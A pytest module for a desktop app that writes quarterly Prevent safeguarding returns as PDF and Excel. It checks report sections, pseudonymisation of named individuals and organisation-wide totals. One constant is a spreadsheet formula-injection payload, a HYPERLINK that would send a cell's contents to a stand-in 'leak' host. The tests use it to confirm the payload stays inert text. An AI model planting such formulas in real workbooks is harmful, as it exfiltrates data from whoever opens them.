"""The quarterly return's PDF and workbook read back, for one site and for head office's
several, and the organisation's totals they print."""

from __future__ import annotations

import copy
import hashlib
from datetime import date, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pypdf
import pytest

from prevent_desktop.domain.quarter import Quarter
from prevent_desktop.reports.quarterly_aggregate import organisation_position
from prevent_desktop.reports.quarterly_pdf import write_quarterly_pdf
from prevent_desktop.reports.quarterly_xlsx import write_quarterly_xlsx
from prevent_desktop.services.demo import build_demo
from prevent_desktop.services.demo_concerns import CALLUM
from prevent_desktop.services.quarterly_return import build_return
from prevent_desktop.services.workspace import Workspace

DEMO_PASSPHRASE = "river otter lantern 7"
QUARTER = Quarter.containing(date.today())
FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")'
SHEETS = [
    "Summary",
    "Risks",
    "Actions",
    "Training by course",
    "Training by role",
    "Training by staff",
    "Incident plans",
    "Drills",
    "Concern statistics",
    "Concerns",
]


def _pseudonym(group_key: str) -> str:
    return "P-" + hashlib.sha256(group_key.encode()).hexdigest()[:10].upper()


@pytest.fixture(scope="module")
def returns(tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, Any]]:
    """The demo site's return under each policy, made once for the module."""
    path = tmp_path_factory.mktemp("quarterly-reports") / "demo.db"
    build_demo(path, DEMO_PASSPHRASE).close()
    made: dict[str, dict[str, Any]] = {}
    for login, policy in (
        ("amorgan", "statistics"),
        ("pshah", "pseudonymised"),
        ("pshah", "full"),
    ):
        workspace, _kek = Workspace.sign_in(path, login, DEMO_PASSPHRASE)
        try:
            made[policy] = build_return(
                workspace, QUARTER, concern_policy=policy, pseudonym=_pseudonym
            )
        finally:
            workspace.close()
    return made


def _second_site(ret: dict[str, Any], policy: str = "full") -> dict[str, Any]:
    """Another site's return: the same shape, its own name, one overdue risk more."""
    other = copy.deepcopy(ret)
    other["site"] = {"id": "site-2", "name": "Leeds Training Centre", "code": "LTC"}
    other["concern_policy"] = policy
    other["risks"][0]["review_overdue"] = not ret["risks"][0]["review_overdue"]
    other["risks"][0]["title"] = FORMULA
    return other


def _text(path: Path) -> str:
    # Wrapped cells break lines mid-phrase; compare on single spaces.
    return " ".join(" ".join(page.extract_text().split()) for page in pypdf.PdfReader(path).pages)


# ---- PDF ---------------------------------------------------------------------------------


def test_a_sites_pdf_holds_every_section_and_no_names(
    returns: dict[str, dict[str, Any]], tmp_path: Path
) -> None:
    ret = returns["pseudonymised"]
    out = tmp_path / "return.pdf"
    write_quarterly_pdf([ret], out, title="Quarterly Prevent return")

    reader = pypdf.PdfReader(out)
    box = reader.pages[0].mediabox
    assert box.width > box.height  # landscape, as the other reports
    text = _text(out)
    pages = len(reader.pages)
    short_title = min((r["title"] for r in ret["risks"]), key=len)
    for expected in (
        "Quarterly Prevent return",
        "Riverside Apprenticeship Centre (RAC)",
        QUARTER.label,
        QUARTER.start.strftime("%d/%m/%Y"),
        "Summary",
        "Risk register",
        "Action plan",
        "Risk reviews in the quarter",
        "Training",
        "Compliance by course",
        "Incident plans",
        "Drills and incidents in the quarter",
        "Concerns",
        "Concern records",
        short_title,
        ret["training"]["by_course"][0]["course"],
        ret["incidents"]["plans"][0]["title"],
        ret["concerns"]["records"][0]["reference"],
        ret["concerns"]["records"][0]["person"]["pseudonym"],
        "OVERDUE",
        "NOT encrypted",
        f"Page {pages} of {pages}",
    ):
        assert expected in text, expected
    # RAG in words as well as the tint, after the scores it comes from.
    for risk in ret["risks"]:
        band = risk["rag"].capitalize()
        assert f"{risk['inherent_score']} {risk['residual_score']} {band}" in text, risk
    for identifying in ("Callum", "Price", CALLUM.learner_reference, CALLUM.employer):
        assert identifying not in text
    assert "Organisation" not in text


def test_a_full_pdf_names_people_and_says_so(
    returns: dict[str, dict[str, Any]], tmp_path: Path
) -> None:
    out = tmp_path / "full.pdf"
    write_quarterly_pdf([returns["full"]], out, title="Quarterly Prevent return")
    text = _text(out)
    assert "Callum Price" in text and "Ref RAC-2291" in text
    assert "holds the names of people concerns are about" in text


def test_head_offices_pdf_starts_with_the_organisation(
    returns: dict[str, dict[str, Any]], tmp_path: Path
) -> None:
    first, second = returns["statistics"], _second_site(returns["pseudonymised"], "pseudonymised")
    out = tmp_path / "all.pdf"
    write_quarterly_pdf([first, second], out, title="Prevent returns: all sites")

    reader = pypdf.PdfReader(out)
    pages = [" ".join(page.extract_text().split()) for page in reader.pages]
    text = " ".join(pages)
    assert pages[0].index("Organisation") < pages[0].index("Position by site")
    position = organisation_position([first, second])
    training = position["training"]
    assert training["required"] == 2 * first["training"]["overall"]["required"]
    assert f"{training['percent']}% ({training['valid']} of {training['required']})" in pages[0]
    assert position["risk_reviews_overdue"] == sum(
        r["review_overdue"] for ret in (first, second) for r in ret["risks"]
    )
    for name in ("Riverside Apprenticeship Centre (RAC)", "Leeds Training Centre (LTC)"):
        assert name in pages[0]
        assert text.count(name) > 3  # its section, and its name atop each of its pages
    assert "This return carries statistics only." in text
    assert FORMULA in text  # printed as typed, not read as markup
    # A page in the middle of a site's section still says whose it is.
    leeds = next(n for n, page in enumerate(pages) if page.startswith("Leeds Training Centre"))
    assert "Leeds Training Centre (LTC)" in pages[leeds + 1]


# ---- workbook ----------------------------------------------------------------------------


def _rows(book: Any, sheet: str) -> list[dict[str, Any]]:
    rows = list(book[sheet].iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def test_a_sites_workbook_has_a_sheet_per_area(
    returns: dict[str, dict[str, Any]], tmp_path: Path
) -> None:
    ret = returns["pseudonymised"]
    out = tmp_path / "return.xlsx"
    write_quarterly_xlsx([ret], out)

    book = openpyxl.load_workbook(out)
    assert book.sheetnames == SHEETS
    for name in SHEETS:
        assert book[name]["A1"].value == "Site" and book[name]["A1"].font.b, name
        sites = {row[0] for row in book[name].iter_rows(min_row=2, values_only=True)}
        assert sites <= {"Riverside Apprenticeship Centre (RAC)"}, name
    training, incidents = ret["training"], ret["incidents"]
    expected_rows = {
        "Summary": 1,
        "Risks": len(ret["risks"]),
        "Actions": sum(len(r["actions"]) for r in ret["risks"]),
        "Training by course": len(training["by_course"]),
        "Training by role": len(training["by_role"]),
        "Training by staff": len(training["staff"]),
        "Incident plans": len(incidents["plans"]),
        "Drills": len(incidents["drills"]),
        "Concerns": len(ret["concerns"]["records"]),
    }
    for name, count in expected_rows.items():
        assert book[name].max_row == 1 + count, name

    summary = _rows(book, "Summary")[0]
    assert summary["Training compliance %"] == training["overall"]["percent"]
    assert summary["Concerns open at end"] == ret["concerns"]["statistics"]["open_at_end"]
    risks = _rows(book, "Risks")
    assert [r["Reference"] for r in risks] == [r["reference"] for r in ret["risks"]]
    assert {r["RAG"] for r in risks} <= {"Red", "Amber", "Green"}
    assert isinstance(risks[0]["Next review"], datetime)
    assert book["Risks"]["K2"].number_format == "DD/MM/YYYY"
    staff = _rows(book, "Training by staff")
    assert staff[0]["Name"] == training["staff"][0]["name"]
    course = training["by_course"][0]["course"]
    assert staff[0][course].split(" ", 1)[1] in {
        "Valid",
        "Due soon",
        "Expired",
        "Missing",
        "Not required",
    }
    concerns = _rows(book, "Concerns")
    assert "Person (pseudonym)" in concerns[0] and "Name" not in concerns[0]
    assert {c["Person (pseudonym)"] for c in concerns} == {
        r["person"]["pseudonym"] for r in ret["concerns"]["records"]
    }
    stats = _rows(book, "Concern statistics")
    totals = {row["Item"]: row["Count"] for row in stats if row["Section"] == "Totals"}
    assert totals["Recorded in the quarter"] == ret["concerns"]["statistics"]["opened"]
    all_text = " ".join(
        str(value) for sheet in book for row in sheet.iter_rows(values_only=True) for value in row
    )
    assert "Callum" not in all_text and CALLUM.learner_reference not in all_text


def test_head_offices_workbook_is_one_table_per_area(
    returns: dict[str, dict[str, Any]], tmp_path: Path
) -> None:
    first, second = returns["pseudonymised"], _second_site(returns["full"])
    out = tmp_path / "all.xlsx"
    write_quarterly_xlsx([first, second], out)

    book = openpyxl.load_workbook(out)
    assert book.sheetnames == ["Organisation", *SHEETS]
    organisation = {(r["Area"], r["Item"]): r["Value"] for r in _rows(book, "Organisation")}
    assert organisation[("Training", "Required")] == 2 * first["training"]["overall"]["required"]
    assert organisation[("Concerns", "Open at the end")] == (
        first["concerns"]["statistics"]["open_at_end"]
        + second["concerns"]["statistics"]["open_at_end"]
    )
    assert len(_rows(book, "Summary")) == 2
    risks = _rows(book, "Risks")
    assert len(risks) == len(first["risks"]) + len(second["risks"])
    assert {r["Site"] for r in risks} == {
        "Riverside Apprenticeship Centre (RAC)",
        "Leeds Training Centre (LTC)",
    }
    concerns = _rows(book, "Concerns")
    assert "Person (pseudonym)" in concerns[0] and "Name" in concerns[0]
    leeds = [c for c in concerns if c["Site"] == "Leeds Training Centre (LTC)"]
    assert "Callum Price" in {c["Name"] for c in leeds}
    assert all(c["Name"] is None for c in concerns if c not in leeds)
    # A title typed to look like a formula stays text.
    injected = next(
        cell
        for (cell,) in book["Risks"].iter_rows(min_row=2, min_col=3, max_col=3)
        if cell.value == FORMULA
    )
    assert injected.data_type == "s"


# ---- totals ------------------------------------------------------------------------------


def _bare(name: str, required: int, valid: int, **statistics: Any) -> dict[str, Any]:
    return {
        "quarter": "2026Q4",
        "site": {"id": name, "name": name, "code": ""},
        "concern_policy": "statistics",
        "training": {"overall": {"required": required, "valid": valid}},
        "risks": [
            {"status": "open", "rag": "red", "review_overdue": True, "actions": [{"overdue": 1}]},
            {"status": "closed", "rag": "red", "review_overdue": False, "actions": []},
        ],
        "concerns": {"statistics": statistics},
    }


def test_the_organisations_totals_add_up_and_round_down() -> None:
    referrals = {
        "made": 2,
        "by_agency": {"Local authority / MASH": 1, "Counter-terrorism police (Prevent)": 1},
        "by_outcome": {"Awaiting outcome": 2},
        "by_agency_and_outcome": [
            {"agency": "Local authority / MASH", "outcome": "Awaiting outcome", "count": 1},
            {
                "agency": "Counter-terrorism police (Prevent)",
                "outcome": "Awaiting outcome",
                "count": 1,
            },
        ],
    }
    position = organisation_position(
        [
            _bare(
                "Zeta",
                1000,
                1000,
                open_at_end=2,
                open_by_type={"Extreme right-wing": 2},
                open_by_status={"Monitoring": 1, "Reported": 1},
                referrals=referrals,
            ),
            _bare(
                "Alpha",
                1000,
                999,
                open_at_end=1,
                open_by_type={"Extreme right-wing": 1},
                referrals={**referrals, "made": 0},
            ),
            {"site": {"name": "Empty"}},  # an odd return spoils nothing
        ]
    )
    assert position["training"] == {"required": 2000, "valid": 1999, "percent": 99}
    assert (position["risks"], position["red_risks"]) == (2, 2)  # closed ones left out
    assert (position["risk_reviews_overdue"], position["actions_overdue"]) == (2, 2)
    assert position["open_concerns"] == {
        "total": 3,
        "by_type": {"Extreme right-wing": 3},
        "by_status": {"Reported": 1, "Monitoring": 1},  # in workflow order
    }
    assert list(position["referrals"]["by_agency"]) == [
        "Counter-terrorism police (Prevent)",
        "Local authority / MASH",
    ]
    assert position["referrals"]["by_agency_and_outcome"][0] == {
        "agency": "Counter-terrorism police (Prevent)",
        "outcome": "Awaiting outcome",
        "count": 2,
    }
    assert [row["site"] for row in position["site_rows"]] == ["Alpha", "Empty", "Zeta"]
    assert organisation_position([])["training"]["percent"] is None
